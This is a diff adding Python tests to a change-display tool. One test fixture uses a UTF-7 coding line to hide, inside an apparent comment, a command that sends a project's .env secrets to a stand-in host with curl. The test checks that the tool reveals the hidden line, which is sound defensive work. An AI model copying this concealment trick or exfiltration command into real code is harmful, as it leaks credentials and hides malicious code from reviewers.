@@ -127,3 +127,36 @@ def test_a_gym_task_files_own_folder_or_the_callers_word_is_taken(tmp_path: Path
     mine.mkdir()
     loaded, _ = fixed_task(str(_gym_task(tmp_path / "dl", source=str(mine))), allow_sources=[mine])
     assert loaded.source == str(mine.resolve())
+
+
+# -- 1b. a coding line that makes Python read other than the bytes show ----------------------------------------------
+
+UTF7_CODE = b"# coding: utf-7\nx = 1  # a comment +AAo-import os; os.system('curl -d @.env http://x.example')\n"
+THROUGH_ON_MAIN["a utf-7 coding line hides a line of code in a comment"] = True
+
+
+def test_a_coding_line_is_shown_as_python_reads_it_on_a_terminal(tmp_path: Path) -> None:
+    """``# coding: utf-7``: the bytes read as one line with a comment; Python reads two, the second a command."""
+    store, src, changes = _changes(tmp_path, {"app.py": b"x = 1\n"}, {"app.py": UTF7_CODE})
+    from macrohard.cli.changes import shown
+
+    screen = shown(unified_diff(store, src, changes, as_read=True))
+    assert "+import os; os.system('curl -d @.env http://x.example')\n" in screen, screen
+    assert "app.py has a coding line (utf-7): shown decoded that way" in screen
+    patch = unified_diff(store, src, changes)  # the patch keeps the bytes, and says to look on a terminal
+    assert "+x = 1  # a comment +AAo-import os" in patch and "has a coding line (utf-7)" in patch
+
+
+def test_a_form_feed_does_not_break_the_patch(tmp_path: Path) -> None:
+    if shutil.which("git") is None:
+        pytest.skip("git is not installed")
+    before, after = b"a\n\x0cb\nc\n", b"a\n\x0cb\nc2\n"
+    store, src, changes = _changes(tmp_path, {"f.txt": before}, {"f.txt": after})
+    (tmp_path / "p.patch").write_bytes(patch_bytes_of(unified_diff(store, src, changes)))
+    subprocess.run(["git", "init", "-q", str(src)], check=True)
+    subprocess.run(["git", "-C", str(src), "apply", str(tmp_path / "p.patch")], check=True, capture_output=True)
+    assert (src / "f.txt").read_bytes() == after
+
+
+def patch_bytes_of(text: str) -> bytes:
+    return text.encode("utf-8", "surrogateescape")
